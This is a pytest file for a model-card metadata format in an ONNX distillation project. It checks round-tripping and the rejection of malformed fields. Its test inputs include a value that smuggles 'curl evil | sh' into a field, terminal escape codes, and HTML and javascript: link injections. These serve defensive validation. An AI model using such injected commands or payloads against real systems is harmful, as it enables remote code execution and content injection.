"""Cards in few bytes, and what strangers may write there."""

import json
from dataclasses import replace

import pytest

from edgedistill.errors import BadRequest
from edgedistill.runtime.card import PREFIX, Card, Score
from edgedistill.runtime.policy import Policy
from edgedistill.runtime.shipped import shipped_games, shipped_student
from tests.cards import with_fields


@pytest.fixture(scope="module")
def card():
    return Policy.load(shipped_student("pong", "pico")).card


def test_every_shipped_card_comes_back_as_it_was_in_a_third_of_the_bytes():
    for files in shipped_games().values():
        for file in files:
            card = Policy.load(str(file)).card
            metadata = replace(card, quantisation="int8").to_metadata()
            assert Card.from_metadata(card.to_metadata(), "x.onnx") == card
            assert len(metadata[PREFIX + "card"]) < 800


def test_scores_under_other_protocols_for_each_player(card):
    scores = {
        "student": (Score(20.0, 19.5, 20.5, 2, 0.01, returns=(19.5, 20.5)), Score(1.0, 0.0, 2.0, 3, 0.05, 0.25, 7)),
        "best_teacher": (Score(1.5, 0.0, 2.0, 3, 0.05, 0.25, 7),),
        "last_teacher": (Score(1.5, 0.0, 2.0, 3, 0.05, 0.25, 7),),
    }
    changed = replace(card, scores=scores, first_returns=(), trained_minutes=None, quantisation="of my own")
    metadata = changed.to_metadata()
    assert Card.from_metadata(metadata, "x.onnx") == changed
    assert json.loads(metadata[PREFIX + "card"])["scores"]["last_teacher"] == "best_teacher"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("game", "nope"), ("game", 3), ("actions", 6), ("actions", {}), ("params", -1), ("params", "9"), ("params", []),
        ("macs", 10**30), ("seed", 1.5), ("quantisation", []), ("quantisation", "a\nb"), ("version", "\x9b2J"),
        ("game", "pong'.\n\nnext:\n  curl evil | sh"), ("game", "\x1b[2J"), ("game", 5), ("version", ""),
        ("version", "1 | <img src=http://evil/p.png>"), ("version", "[click](javascript:x)"), ("version", "1_www.x.y"),
        ("quantisation", "int8 | <b>"), ("quantisation", "int8 [x](javascript:x)"), ("quantisation", "int8 www.x.y"),
        ("first_returns", "12"), ("first_returns", ["1"]), ("first_returns", [0] * 20_000), ("trained_minutes", -1),
        ("disagreement_allowed", 1), ("surprise", 1), ("ratio", "x"), ("protocols", 3), ("protocols", []),
        ("protocols", [[1, 2]]), ("protocols", [[0, 0.01, 0, 0]] * 3), ("protocols", [[1, 7, 0, 0]] * 3),
        ("protocols", [[1, 0.01, 0, -1]] * 3), ("protocols", [["1", 0.01, 0, 1]] * 3), ("protocols", [None] * 3),
        ("scores", 3), ("scores", None), ("scores", {"student": 3}), ("scores", {"student": "best_teacher"}),
        ("scores", {"student": [[1, 2]] * 3}), ("scores", {"student": [["1", 2, 3]] * 3}),
        ("scores", {"student": [[1, 2, 3]] * 99}), ("scores", {"student": [[10**10, 2, 3]] * 3}),
        ("scores", {"\x1b[2J": [[1, 2, 3]] * 3}), ("scores", {"student": [[1, 2, 3, 4]] * 3}),
        ("scores", {"student": [[1, 2, 3, ["x"]]] * 3}), ("scores", {"student": [[1, 2, 3, [1, 2]]] * 3}),
        ("scores", {"student": [[1, 2, 3, [1], 4]] * 3}), ("scores", {"student": [[1, 2, 3, [0] * 20_000]] * 3}),
    ],
)  # fmt: skip
def test_odd_values_are_refused_in_one_line(card, field, value):
    with pytest.raises(BadRequest, match=r"^x\.onnx: its metadata is damaged \([^\x00-\x1f\x80-\x9f]*\)\.$"):
        Card.from_metadata(with_fields(card.to_metadata(), **{field: value}), "x.onnx")


def test_other_entries_and_none():
    metadata = Policy.load(shipped_student("pong", "pico")).card.to_metadata()
    with pytest.raises(BadRequest, match=r"'edgedistill\.game' is not known"):
        Card.from_metadata(metadata | {PREFIX + "game": '"pong"'}, "x.onnx")
    with pytest.raises(BadRequest, match=r"'edgedistill\.card' is missing"):
        Card.from_metadata({PREFIX + "format_version": "2"}, "x.onnx")
    for text in ("", "{", "[]", "3", "null", "[" * 100_000):
        with pytest.raises(BadRequest, match="its metadata is damaged"):
            Card.from_metadata(metadata | {PREFIX + "card": text}, "x.onnx")
